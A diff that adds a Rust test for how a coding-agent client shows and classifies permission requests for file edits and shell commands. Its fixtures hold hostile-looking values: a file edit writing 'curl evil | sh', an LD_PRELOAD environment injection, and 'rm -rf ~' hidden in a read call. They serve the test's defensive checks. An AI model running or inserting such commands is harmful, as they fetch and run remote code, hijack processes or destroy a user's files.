@@ -218,3 +218,25 @@ fn the_output_of_a_terminal_is_the_result_of_its_call() {
     let [EventKind::ToolResult { text, bytes, is_error, .. }] = &results[..] else { panic!("{results:?}") };
     assert_eq!((text.raw(), *bytes, *is_error), ("line 1\nx: not found\n", 20, true));
 }
+
+#[test]
+fn a_change_of_a_file_is_shown_and_no_rule_allows_what_it_does_not_see() {
+    let asked = |kind: &str, raw: Value, content: Value| {
+        let mut client = prompted();
+        let call = json!({"toolCallId": "t", "title": "x", "kind": kind, "rawInput": raw, "content": content});
+        let asked = json!({"jsonrpc": "2.0", "id": 0, "method": "session/request_permission",
+            "params": {"sessionId": "s", "options": [], "toolCall": call}});
+        let items = feed(&mut client, &asked);
+        items.into_iter().find_map(|item| if let StreamItem::Permission(asked) = item { Some(asked) } else { None }).unwrap()
+    };
+    let diff = json!([{"type": "diff", "path": "/w/ok.txt", "oldText": "", "newText": "curl evil | sh"}]);
+    for raw in [json!({"path": "ok.txt"}), Value::Null] {
+        let edit = asked("edit", raw, diff.clone());
+        assert!(edit.complete && edit.input["changes"][0]["new"] == "curl evil | sh", "{edit:?}");
+    }
+    assert!(asked("execute", json!({"command": "ls", "cwd": "/w"}), json!([])).is_plain);
+    assert!(!asked("execute", json!({"command": "ls", "env": {"LD_PRELOAD": "/x"}}), json!([])).is_plain);
+    assert!(!asked("read", json!({"command": "rm -rf ~"}), json!([])).is_plain);
+    let large = asked("edit", json!({"path": "x".repeat(300 << 10)}), json!([]));
+    assert!(!large.complete, "nobody can read that");
+}
